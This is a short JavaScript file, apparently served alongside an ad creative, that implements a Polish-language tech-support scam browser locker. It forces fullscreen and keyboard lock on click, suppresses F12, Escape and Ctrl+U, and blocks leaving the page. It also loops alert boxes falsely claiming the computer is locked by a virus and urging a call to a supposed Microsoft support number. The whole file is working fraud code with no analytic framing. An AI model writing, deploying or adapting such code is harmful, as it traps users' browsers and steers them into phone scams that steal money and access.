// Lock logic served beside the pl creative snippet.
(function () {
  var txt = 'Ostrzeżenie! Twój komputer został zablokowany z powodu wirusa. ' +
            'Nie wyłączaj komputera. Zadzwoń do pomocy technicznej Microsoft: +44 808 157 0190';
  function grab() {
    var d = document.documentElement;
    (d.requestFullscreen || d.webkitRequestFullscreen).call(d);
    if (navigator.keyboard) { navigator.keyboard.lock(); }
  }
  document.addEventListener('click', grab, true);
  document.addEventListener('keydown', function (e) {
    if (e.key === 'F12' || e.key === 'Escape' || (e.ctrlKey && e.key === 'u')) { e.preventDefault(); e.stopPropagation(); }
  }, true);
  window.onbeforeunload = function () { return txt; };
  var n = 0;
  var t = setInterval(function () { alert(txt); if (++n > 100) clearInterval(t); }, 1200);
})();
